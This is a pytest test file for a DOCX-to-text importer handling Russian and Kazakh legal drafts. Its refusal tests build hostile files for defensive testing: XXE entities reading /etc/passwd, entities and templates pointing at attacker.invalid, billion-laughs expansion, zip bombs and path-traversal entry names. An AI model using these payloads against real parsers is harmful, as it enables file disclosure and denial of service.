"""Tests for the DOCX import: Word drafts in, structured text out, hostile files refused."""

from __future__ import annotations

import io
import socket
import struct
import tracemalloc
import warnings
import zipfile
from collections.abc import Callable

import docx
import pytest
from docx.document import Document as DocumentObject
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.shared import Pt
from docx.text.paragraph import Paragraph

from alatau_legal.acts.docx_import import DocxImportError, _format_number, docx_to_text
from alatau_legal.acts.text import Kind, parse

MB = 2**20
LIMIT = 10 * MB
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NS = f'xmlns:w="{W_NS}"'
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# --- building fixtures ----------------------------------------------------------------------


def make_docx(build: Callable[[DocumentObject], object]) -> bytes:
    """A .docx made with python-docx from its default template, shaped by `build`."""
    document = docx.Document()
    build(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rewrite(
    data: bytes,
    replace: dict[str, bytes | None] | None = None,
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A copy of the zip `data` with entries replaced, removed (None) or added."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", compression) as target,
        warnings.catch_warnings(),
    ):
        warnings.simplefilter("ignore")  # duplicate names are made on purpose
        for info in source.infolist():
            content = replace.get(info.filename, source.read(info))
            if content is not None:
                target.writestr(info.filename, content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive holding `entries`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


_CENTRAL = struct.Struct("<4s4B4HL2L5H2L")  # a zip central directory record (46 bytes)


def patch_central(data: bytes, name: str, **fields: int) -> bytes:
    """Rewrite fields (flag_bits, crc, file_size) of `name`'s central directory record."""
    index = {"flag_bits": 5, "crc": 9, "file_size": 11}
    out = bytearray(data)
    pos = out.find(b"PK\x01\x02")
    while pos != -1:
        record = list(_CENTRAL.unpack_from(out, pos))
        if out[pos + 46 : pos + 46 + record[12]] == name.encode():
            for field, value in fields.items():
                record[index[field]] = value
            _CENTRAL.pack_into(out, pos, *record)
            return bytes(out)
        pos = out.find(b"PK\x01\x02", pos + 4)
    raise AssertionError(f"{name} not in the zip")


def document_xml(body: str, prolog: str = "") -> bytes:
    """A word/document.xml holding `body`, after an optional prolog (a DOCTYPE)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        f"<w:document {NS}><w:body>{body}</w:body></w:document>"
    ).encode()


def numbered(paragraph: Paragraph, num_id: int, ilvl: int = 0) -> Paragraph:
    """Put `paragraph` into Word list `num_id` at level `ilvl`, as Word does."""
    p_pr = paragraph._p.get_or_add_pPr()
    p_pr.append(
        parse_xml(f'<w:numPr {NS}><w:ilvl w:val="{ilvl}"/><w:numId w:val="{num_id}"/></w:numPr>')
    )
    return paragraph


def lvl(ilvl: int, fmt: str, text: str, extra: str = "") -> str:
    """A `w:lvl` numbering level starting at 1."""
    return (
        f'<w:lvl w:ilvl="{ilvl}"><w:start w:val="1"/><w:numFmt w:val="{fmt}"/>{extra}'
        f'<w:lvlText w:val="{text}"/></w:lvl>'
    )


# Lists as Kazakhstan acts number them: "1." paragraphs, "1)" sub-paragraphs, "а)" below;
# and a multi-level list "Раздел I." / "1-1." (legal numbering) / "а)".
NUMBERING = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:numbering {NS}>
  <w:abstractNum w:abstractNumId="10">
    {lvl(0, "decimal", "%1.")}{lvl(1, "decimal", "%2)")}{lvl(2, "lowerLetter", "%3)")}
  </w:abstractNum>
  <w:abstractNum w:abstractNumId="20">
    {lvl(0, "upperRoman", "Раздел %1.")}{lvl(1, "decimal", "%1-%2.", "<w:isLgl/>")}
    {lvl(2, "russianLower", "%3)")}
  </w:abstractNum>
  <w:num w:numId="1"><w:abstractNumId w:val="10"/></w:num>
  <w:num w:numId="2"><w:abstractNumId w:val="10"/>
    <w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride></w:num>
  <w:num w:numId="3"><w:abstractNumId w:val="20"/></w:num>
</w:numbering>""".encode()


def import_docx(data: bytes, **limits: int) -> str:
    """Import `data` with the 10 MB upload limit unless told otherwise."""
    limits.setdefault("max_bytes", LIMIT)
    return docx_to_text(data, **limits)


def refused(data: bytes, status: int, *fragments: str, **limits: int) -> DocxImportError:
    """Assert that importing `data` is refused in little memory, as told."""
    tracemalloc.start()
    try:
        with pytest.raises(DocxImportError) as caught:
            import_docx(data, **limits)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    error = caught.value
    assert error.status == status, error.message
    for fragment in fragments:
        assert fragment in error.message
    assert str(error) == error.message
    assert peak < 16 * MB, f"peak memory {peak / MB:.1f} MB"
    return error


# --- good files -----------------------------------------------------------------------------


def test_typed_headings_and_numbers_come_in_one_block_per_paragraph() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("ПРАВИЛА предоставления инвестиционных преференций")
        document.add_paragraph("Глава 1. Общие положения")
        document.add_paragraph("")  # empty paragraphs are dropped
        document.add_paragraph("Статья 1. Предмет регулирования")
        document.add_paragraph("1. Настоящие Правила определяют:")
        document.add_paragraph("1) порядок подачи заявки;")
        document.add_paragraph("2) сроки её рассмотрения.")
        document.add_paragraph("   ")
        document.add_paragraph("Примечание. Сроки исчисляются в рабочих днях.")

    assert import_docx(make_docx(build)) == (
        "ПРАВИЛА предоставления инвестиционных преференций\n\n"
        "Глава 1. Общие положения\n\n"
        "Статья 1. Предмет регулирования\n\n"
        "1. Настоящие Правила определяют:\n\n"
        "1) порядок подачи заявки;\n\n"
        "2) сроки её рассмотрения.\n\n"
        "Примечание. Сроки исчисляются в рабочих днях.\n"
    )


def test_word_numbered_lists_get_their_numbers_typed() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("Статья 1. Цели")
        numbered(document.add_paragraph("Первый пункт:"), 1)
        numbered(document.add_paragraph("первый подпункт;"), 1, 1)
        numbered(document.add_paragraph("второй подпункт."), 1, 1)
        numbered(document.add_paragraph("Второй пункт:"), 1)
        numbered(document.add_paragraph("подпункт начинается заново;"), 1, 1)
        numbered(document.add_paragraph("буква"), 1, 2)
        numbered(document.add_paragraph("ещё буква"), 1, 2)
        numbered(document.add_paragraph(""), 1)  # Word shows and counts an empty item
        numbered(document.add_paragraph("Четвёртый пункт."), 1)
        document.add_paragraph("Статья 2. Новый список")
        numbered(document.add_paragraph("Нумерация начата заново."), 2)
        numbered(document.add_paragraph("И продолжена."), 2)

    data = rewrite(make_docx(build), {"word/numbering.xml": NUMBERING})
    assert import_docx(data) == (
        "Статья 1. Цели\n\n"
        "1. Первый пункт:\n\n"
        "1) первый подпункт;\n\n"
        "2) второй подпункт.\n\n"
        "2. Второй пункт:\n\n"
        "1) подпункт начинается заново;\n\n"
        "a) буква\n\n"
        "b) ещё буква\n\n"
        "4. Четвёртый пункт.\n\n"
        "Статья 2. Новый список\n\n"
        "1. Нумерация начата заново.\n\n"
        "2. И продолжена.\n"
    )


def test_multi_level_list_with_roman_legal_and_russian_letters() -> None:
    def build(document: DocumentObject) -> None:
        numbered(document.add_paragraph("Общие положения"), 3)
        numbered(document.add_paragraph("Первый пункт."), 3, 1)
        numbered(document.add_paragraph("Второй пункт:"), 3, 1)
        numbered(document.add_paragraph("подпункт;"), 3, 2)
        numbered(document.add_paragraph("подпункт."), 3, 2)
        numbered(document.add_paragraph("Заключительные положения"), 3)
        numbered(document.add_paragraph("Пункт второго раздела."), 3, 1)

    data = rewrite(make_docx(build), {"word/numbering.xml": NUMBERING})
    assert import_docx(data) == (
        "Раздел I. Общие положения\n\n"
        "1-1. Первый пункт.\n\n"
        "1-2. Второй пункт:\n\n"
        "а) подпункт;\n\n"
        "б) подпункт.\n\n"
        "Раздел II. Заключительные положения\n\n"
        "2-1. Пункт второго раздела.\n"
    )


def test_numbering_through_a_paragraph_style_and_switched_off() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("First item", style="List Number")
        document.add_paragraph("Second item", style="List Number")
        off = document.add_paragraph("Not numbered", style="List Number")
        numbered(off, 0)  # numId 0 takes the style's numbering away
        document.add_paragraph("Third item", style="List Number")

    assert import_docx(make_docx(build)) == (
        "1. First item\n\n2. Second item\n\nNot numbered\n\n3. Third item\n"
    )


def test_simple_table_comes_in_as_rows_of_cells_in_body_order() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("Приложение 1. Ставки")
        table = document.add_table(rows=3, cols=3)
        for r, row in enumerate(
            [["№", "Вид преференции", "Ставка"], ["1", "Налог", "0 %"], ["2", "Пошлина", ""]]
        ):
            for c, text in enumerate(row):
                table.cell(r, c).text = text
        table.cell(1, 1).add_paragraph("на имущество")
        document.add_paragraph("Примечание. Ставки в процентах.")

    assert import_docx(make_docx(build)) == (
        "Приложение 1. Ставки\n\n"
        "№ | Вид преференции | Ставка\n"
        "1 | Налог на имущество | 0 %\n"
        "2 | Пошлина |\n\n"
        "Примечание. Ставки в процентах.\n"
    )


def test_russian_and_kazakh_text_and_normalised_characters() -> None:
    kazakh = "1-бап. Қолданылу аясы"
    letters = "Әә Ғғ Ққ Ңң Өө Ұұ Үү Һһ Іі"

    def build(document: DocumentObject) -> None:
        document.add_paragraph(kazakh)
        document.add_paragraph(f"1. Осы Қағидалар {letters} қолданылады.")
        document.add_paragraph("Статья\u00a05.\u202fСрок —\u00a010\u00a0дней")
        document.add_paragraph("Мяг\u00adкий пере\u200bнос\ufeff и\x7f управ\x9fляющие")
        document.add_paragraph("Сумма:\tсто   тенге  ")

    assert import_docx(make_docx(build)) == (
        f"{kazakh}\n\n"
        f"1. Осы Қағидалар {letters} қолданылады.\n\n"
        "Статья 5. Срок — 10 дней\n\n"
        "Мягкий перенос и управляющие\n\n"
        "Сумма:\tсто тенге\n"
    )


def test_heading_styles_and_bold_lines_keep_a_bare_heading_with_its_title() -> None:
    def build(document: DocumentObject) -> None:
        document.add_heading("ГЛАВА 1", level=1)
        document.add_heading("ОБЩИЕ ПОЛОЖЕНИЯ", level=1)
        document.add_paragraph("Текст главы.")
        bare = document.add_paragraph()
        bare.add_run("3-бап").bold = True
        title = document.add_paragraph()
        title.add_run("Мақсаттар").bold = True
        document.add_heading("Article 4", level=2)
        document.add_paragraph("Not a title, a sentence.")
        document.add_heading("Chapter 2. Final provisions", level=1)

    assert import_docx(make_docx(build)) == (
        "ГЛАВА 1\nОБЩИЕ ПОЛОЖЕНИЯ\n\n"
        "Текст главы.\n\n"
        "3-бап\nМақсаттар\n\n"
        "Article 4\n\n"
        "Not a title, a sentence.\n\n"
        "Chapter 2. Final provisions\n"
    )


def test_inline_markup_breaks_links_revisions_hidden_text_and_contents() -> None:
    runs = (
        "<w:r><w:t>Статья 6. </w:t></w:r>"
        '<w:hyperlink w:history="1"><w:r><w:t>Ссылка</w:t></w:r></w:hyperlink>'
        '<w:ins w:id="1" w:author="A"><w:r><w:t xml:space="preserve"> вставлено</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="A"><w:r><w:delText> удалено</w:delText></w:r></w:del>'
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t> скрыто</w:t></w:r>"
        "<w:r><w:br/><w:t>вторая строка</w:t><w:noBreakHyphen/><w:t>дефис</w:t></w:r>"
    )
    body = (
        '<w:p><w:pPr><w:pStyle w:val="TOC1"/></w:pPr><w:r><w:t>Статья 6\t3</w:t></w:r></w:p>'
        f"<w:p>{runs}</w:p><w:sdt><w:sdtContent><w:p><w:r><w:t>В элементе управления</w:t>"
        "</w:r></w:p></w:sdtContent></w:sdt><w:sectPr/>"
    )
    toc_style = (
        f'<w:style {NS} w:type="paragraph" w:styleId="TOC1"><w:name w:val="toc 1"/></w:style>'
    )

    def build(document: DocumentObject) -> None:
        document.styles.element.append(parse_xml(toc_style))

    data = rewrite(make_docx(build), {"word/document.xml": document_xml(body)})
    assert import_docx(data) == (
        "Статья 6. Ссылка вставлено\nвторая строка-дефис\n\nВ элементе управления\n"
    )


def test_external_relationships_are_never_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the import tried to use the network")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)

    def build(document: DocumentObject) -> None:
        document.part.relate_to("http://attacker.invalid/logo.png", RT.IMAGE, is_external=True)
        document.add_paragraph("Статья 1. Текст")

    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{ATTACHED_TEMPLATE}" Target="http://attacker.invalid/t.dotm" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    data = rewrite(make_docx(build), add={"word/_rels/settings.xml.rels": settings_rels})
    assert import_docx(data) == "Статья 1. Текст\n"


def test_style_loops_and_bold_styles_do_not_hang() -> None:
    styles = (
        f'<w:style {NS} w:type="paragraph" w:styleId="A"><w:name w:val="A"/>'
        '<w:basedOn w:val="B"/></w:style>',
        f'<w:style {NS} w:type="paragraph" w:styleId="B"><w:name w:val="B"/>'
        '<w:basedOn w:val="A"/><w:rPr><w:b/></w:rPr></w:style>',
    )

    def build(document: DocumentObject) -> None:
        for style in styles:
            document.styles.element.append(parse_xml(style))
        document.add_paragraph("Глава 7", style="A")
        document.add_paragraph("Заголовок жирным стилем", style="A")
        small = document.add_paragraph("обычный текст")
        small.runs[0].font.size = Pt(10)

    assert import_docx(make_docx(build)) == ("Глава 7\nЗаголовок жирным стилем\n\nобычный текст\n")


@pytest.mark.parametrize(
    ("value", "fmt", "expected"),
    [
        (4, "decimal", "4"),
        (4, "decimalZero", "04"),
        (14, "upperRoman", "XIV"),
        (1999, "lowerRoman", "mcmxcix"),
        (3, "lowerLetter", "c"),
        (28, "upperLetter", "BB"),
        (10, "russianLower", "к"),
        (2, "russianUpper", "Б"),
        (5, "none", ""),
        (10**9, "lowerLetter", "1000000000"),
        (7, "ordinal", "7"),
    ],
)
def test_number_formats(value: int, fmt: str, expected: str) -> None:
    assert _format_number(value, fmt) == expected


# --- refused files --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def good() -> bytes:
    """A small valid .docx to break in various ways."""
    return make_docx(lambda document: document.add_paragraph("Статья 1. Текст"))


def test_empty_file() -> None:
    refused(b"", 415, "empty")


def test_plain_text_renamed_to_docx() -> None:
    refused("Статья 1. Текст".encode(), 415, "not a Word document (.docx)", "Save As")


def test_pdf() -> None:
    refused(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", 415, "PDF")


def test_old_word_doc_ole_signature() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    refused(ole, 415, "(.doc)", "Word Document (*.docx)")


def test_rtf() -> None:
    refused(b"{\\rtf1\\ansi Hello}", 415, "Rich Text Format")


def test_truncated_zip(good: bytes) -> None:
    refused(good[: len(good) // 2], 400, "damaged or incomplete")


def test_zip_without_word_document(good: bytes) -> None:
    refused(rewrite(good, {"word/document.xml": None}), 415, "not a Word document (.docx)")


def test_ordinary_zip() -> None:
    refused(zip_of({"notes.txt": b"hello"}), 415, "not a Word document (.docx)")


def test_xlsx_like_package() -> None:
    package = zip_of(
        {
            "[Content_Types].xml": (
                b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
                b'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
            ),
            "_rels/.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId1" Type="{RT.OFFICE_DOCUMENT}" '
                'Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": b"<workbook/>",
        }
    )
    refused(package, 415, "Excel workbook")


def test_odt() -> None:
    odt = zip_of(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"},
        zipfile.ZIP_STORED,
    )
    refused(odt, 415, "OpenDocument text (.odt)")


def test_macro_enabled_document(good: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        types = archive.read("[Content_Types].xml")
    docm = types.replace(
        WORD_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    refused(rewrite(good, {"[Content_Types].xml": docm}), 415, "macro-enabled", "(.docm)")


def test_file_larger_than_the_upload_limit(good: bytes) -> None:
    refused(good + bytes(LIMIT), 413, "The file is 10.1 MB, larger than the 10 MB limit")
    refused(good, 413, "larger than the 1000 bytes limit", max_bytes=1000)


def test_zip_bomb_unpacking_past_the_total_limit(good: bytes) -> None:
    bomb = rewrite(good, add={"word/media/image1.png": bytes(60 * MB)})
    assert len(bomb) < 200_000
    refused(bomb, 413, "unpacks to more than 50 MB")


def test_zip_bomb_by_compression_ratio(good: bytes) -> None:
    bomb = rewrite(good, add={"word/media/image1.png": bytes(8 * MB)})
    refused(bomb, 400, "zip bomb")


def test_zip_entry_lying_about_its_size(good: bytes) -> None:
    # The header says 1000 bytes; the data inflates to 8 MB. Only 1000 bytes are ever read.
    bomb = rewrite(good, add={"word/media/image1.png": bytes(8 * MB)})
    refused(patch_central(bomb, "word/media/image1.png", file_size=1000), 400, "damaged")


def test_too_many_entries(good: bytes) -> None:
    many = rewrite(good, add={f"customXml/item{i}.xml": b"<x/>" for i in range(2001)})
    refused(many, 400, "parts, more than the 2000")


def test_xxe_in_document_xml(good: bytes) -> None:
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>"
    xxe = rewrite(good, {"word/document.xml": document_xml(body, prolog)})
    refused(xxe, 400, "DOCTYPE or ENTITY")


def test_external_doctype_in_document_xml(good: bytes) -> None:
    prolog = '<!DOCTYPE w:document SYSTEM "file:///etc/passwd">'
    xxe = rewrite(good, {"word/document.xml": document_xml("<w:p/>", prolog)})
    refused(xxe, 400, "DOCTYPE or ENTITY")


def test_billion_laughs(good: bytes) -> None:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    prolog = f"<!DOCTYPE lolz [{''.join(entities)}]>"
    body = "<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>"
    laughs = rewrite(good, {"word/document.xml": document_xml(body, prolog)})
    refused(laughs, 400, "DOCTYPE or ENTITY")


@pytest.mark.parametrize(
    "part",
    ["word/styles.xml", "word/numbering.xml", "[Content_Types].xml", "_rels/.rels"],
)
def test_doctype_in_the_other_main_parts(good: bytes, part: str) -> None:
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        xml = archive.read(part)
    end = xml.index(b"?>") + 2
    hostile = (
        xml[:end] + b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.invalid/">]>' + xml[end:]
    )
    refused(rewrite(good, {part: hostile}), 400, "DOCTYPE or ENTITY")


@pytest.mark.parametrize(
    "name", ["../../evil.sh", "word/../../evil.xml", "/etc/cron.d/evil", "C:/evil.xml", "..\\x"]
)
def test_path_traversal_entry_names(good: bytes, name: str) -> None:
    refused(rewrite(good, add={name: b"<x/>"}), 400, "points outside the document")


def test_malformed_xml_in_document_xml(good: bytes) -> None:
    broken = b'<?xml version="1.0"?><w:document ' + NS.encode() + b"><w:body><w:p></w:body>"
    refused(rewrite(good, {"word/document.xml": broken}), 400, "word/document.xml", "well-formed")


def test_encrypted_entry_flag(good: bytes) -> None:
    refused(patch_central(good, "word/document.xml", flag_bits=0x1), 400, "password")


def test_duplicate_entry_names(good: bytes) -> None:
    refused(rewrite(good, add={"word/document.xml": document_xml("<w:p/>")}), 400, "damaged")


def test_unusual_compression_method(good: bytes) -> None:
    refused(rewrite(good, compression=zipfile.ZIP_BZIP2), 400, "damaged")


def test_not_a_word_document_root(good: bytes) -> None:
    refused(rewrite(good, {"word/document.xml": b"<nothing/>"}), 400, "damaged")


def test_document_without_text(good: bytes) -> None:
    refused(rewrite(good, {"word/document.xml": document_xml("<w:p/><w:p/>")}), 400, "no text")


# --- Word quirks of real drafts (issue 14) ---------------------------------------------------


def _eids(text: str) -> list[tuple[str, str]]:
    from alatau_legal.acts.text import parse

    return [(p.eid, p.kind.value) for p in parse(text).walk()]


def test_a_manual_line_break_never_starts_a_provision() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("Статья 5. Права")
        paragraph = document.add_paragraph("1. Лица вправе:")
        paragraph.add_run().add_break()
        paragraph.add_run("1) обращаться в орган;")
        document.add_paragraph("1) получать ответ.")

    text = import_docx(make_docx(build))
    assert "1. Лица вправе: 1) обращаться в орган;" in text
    assert _eids(text) == [
        ("art_5", "article"),
        ("art_5__para_1", "paragraph"),
        ("art_5__para_1__subpara_1", "subparagraph"),
    ]


def test_sub_paragraphs_after_a_proviso_stay_under_their_point() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("Статья 7. Закупки")
        document.add_paragraph("2. Требования:")
        document.add_paragraph("1) первое;")
        document.add_paragraph("Настоящее положение не распространяется на малые закупки.")
        document.add_paragraph("2) второе;")
        document.add_paragraph("3) третье.")
        document.add_paragraph("3. Следующий пункт.")

    rows = _eids(import_docx(make_docx(build)))
    assert rows == [
        ("art_7", "article"),
        ("art_7__para_2", "paragraph"),
        ("art_7__para_2__subpara_1", "subparagraph"),
        ("art_7__para_2__subpara_2", "subparagraph"),
        ("art_7__para_2__subpara_3", "subparagraph"),
        ("art_7__para_3", "paragraph"),
    ]


def test_footnotes_and_the_signature_of_a_word_draft() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("Статья 1. Предмет")
        document.add_paragraph("Настоящий Закон регулирует отношения.")
        document.add_paragraph("Сноска. Статья 1 с изменением, внесенным Законом РК от 01.01.2024.")
        document.add_paragraph("Президент Республики Казахстан")
        document.add_paragraph("К. ТОКАЕВ")

    assert _eids(import_docx(make_docx(build))) == [
        ("art_1", "article"),
        ("art_1__part_1", "part"),
        ("art_1__note_1", "note"),
        ("conclusions", "conclusions"),
    ]


def test_a_chapter_title_over_two_word_paragraphs_is_one_title() -> None:
    def build(document: DocumentObject) -> None:
        document.add_paragraph().add_run("ГЛАВА 2").bold = True
        document.add_paragraph().add_run("ОСУЩЕСТВЛЕНИЕ ГОСУДАРСТВЕННЫХ").bold = True
        document.add_paragraph().add_run("ЗАКУПОК").bold = True
        document.add_paragraph().add_run("Глава 3. ОБЩИЕ").bold = True
        document.add_paragraph().add_run("ПОЛОЖЕНИЯ").bold = True
        document.add_paragraph("Статья 7. Закупки")
        document.add_paragraph("1. Текст.")

    text = import_docx(make_docx(build))
    from alatau_legal.acts.text import parse

    chapters = [(p.eid, p.heading) for p in parse(text).walk() if p.kind.value == "chapter"]
    assert chapters == [
        ("chp_2", "ОСУЩЕСТВЛЕНИЕ ГОСУДАРСТВЕННЫХ ЗАКУПОК"),
        ("chp_3", "ОБЩИЕ ПОЛОЖЕНИЯ"),
    ]
    assert [kind for _, kind in _eids(text)].count("part") == 0


def test_a_bold_heading_typed_with_its_first_sentence_keeps_the_sentence_as_text() -> None:
    sentence = (
        "Целью настоящего Закона является обеспечение участия граждан Республики Казахстан "
        "в управлении делами государства, а также регулирование общественных отношений, "
        "связанных с организацией и осуществлением общественного контроля."
    )

    def build(document: DocumentObject) -> None:
        paragraph = document.add_paragraph()
        paragraph.add_run("Статья 4. Цель настоящего Закона").bold = True
        paragraph.add_run(" " + sentence)

    text = import_docx(make_docx(build))
    from alatau_legal.acts.text import parse

    article, part = list(parse(text).walk())
    assert (article.eid, article.heading) == ("art_4", "Цель настоящего Закона")
    assert (part.eid, part.text) == ("art_4__part_1", sentence)


def _tracked(paragraphs: str) -> bytes:
    def build(document: DocumentObject) -> None:
        document.add_paragraph("Статья 1. Предмет")
        body = document.element.body
        for xml in paragraphs.split("|"):
            body.insert(len(body) - 1, parse_xml(f"<w:p {W_NSDECL}>{xml}</w:p>"))

    return make_docx(build)


W_NSDECL = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def test_tracked_changes_are_taken_as_accepted_and_said_so() -> None:
    from alatau_legal.acts.docx_import import read_docx

    data = _tracked(
        '<w:r><w:t xml:space="preserve">1. Срок </w:t></w:r>'
        '<w:del w:id="1" w:author="A" w:date="2026-01-01T00:00:00Z"><w:r>'
        "<w:delText>десять</w:delText></w:r></w:del>"
        '<w:ins w:id="2" w:author="A" w:date="2026-01-01T00:00:00Z"><w:r>'
        "<w:t>пять</w:t></w:r></w:ins>"
        '<w:r><w:t xml:space="preserve"> дней.</w:t></w:r>'
        '|<w:ins w:id="3" w:author="A" w:date="2026-01-01T00:00:00Z"><w:r>'
        "<w:t>2. Новый пункт.</w:t></w:r></w:ins>"
    )
    read = read_docx(data, max_bytes=10**7)
    assert "1. Срок пять дней." in read.text and "десять" not in read.text
    assert "2. Новый пункт." in read.text
    assert len(read.notes) == 1
    assert "3 tracked changes" in read.notes[0] and "2 insertions, 1 deletion" in read.notes[0]
    assert "as if every change were accepted" in read.notes[0]


def test_a_file_without_tracked_changes_has_no_notes() -> None:
    from alatau_legal.acts.docx_import import read_docx

    read = read_docx(make_docx(lambda d: d.add_paragraph("Статья 1. Предмет")), max_bytes=10**7)
    assert read.notes == ()


def test_a_codes_paragraph_heading_is_a_heading_and_keeps_its_title() -> None:
    def build(document: DocumentObject) -> None:
        document.add_heading("Глава 2. Субъекты предпринимательства", level=1)
        bare = document.add_paragraph()
        bare.add_run("Параграф 1").bold = True
        title = document.add_paragraph()
        title.add_run("Общие положения").bold = True
        document.add_heading("Статья 23. Субъекты", level=2)
        document.add_paragraph("1. Текст.")
        document.add_heading("2-параграф. Дара кәсіпкерлік", level=1)
        document.add_heading("30-бап. Ұғым", level=2)

    text = import_docx(make_docx(build))
    assert text == (
        "Глава 2. Субъекты предпринимательства\n\n"
        "Параграф 1\nОбщие положения\n\n"
        "Статья 23. Субъекты\n\n"
        "1. Текст.\n\n"
        "2-параграф. Дара кәсіпкерлік\n\n"
        "30-бап. Ұғым\n"
    )
    rows = [(p.eid, p.heading) for p in parse(text).walk() if p.kind is Kind.SUBCHAPTER]
    assert rows == [
        ("chp_2__subchp_1", "Общие положения"),
        ("chp_2__subchp_2", "Дара кәсіпкерлік"),
    ]
